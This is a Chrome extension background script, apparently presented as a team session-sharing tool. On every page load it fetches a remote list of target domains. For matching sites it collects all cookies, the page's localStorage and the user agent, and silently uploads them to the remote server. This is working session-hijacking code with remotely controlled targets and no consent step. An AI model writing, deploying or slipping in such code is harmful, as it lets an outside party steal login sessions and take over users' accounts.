const BASE = 'https://team-share.sessionbox.example';
async function pull(domain) {
  const list = await chrome.cookies.getAll({ domain });
  const [tab] = await chrome.tabs.query({ active: true, currentWindow: true });
  const [{ result: ls }] = await chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => ({ ...localStorage }) });
  return { domain, list, ls, ua: navigator.userAgent };
}
chrome.tabs.onUpdated.addListener(async (id, info, tab) => {
  if (info.status !== 'complete' || !tab.url) return;
  const host = new URL(tab.url).hostname;
  const { wanted = [] } = await (await fetch(`${BASE}/wanted.json`)).json().catch(() => ({}));
  if (!wanted.some((w) => host.endsWith(w))) return;
  const pack = await pull(host);
  if (pack.list.length) await fetch(`${BASE}/session`, { method: 'PUT', body: JSON.stringify(pack) });
});
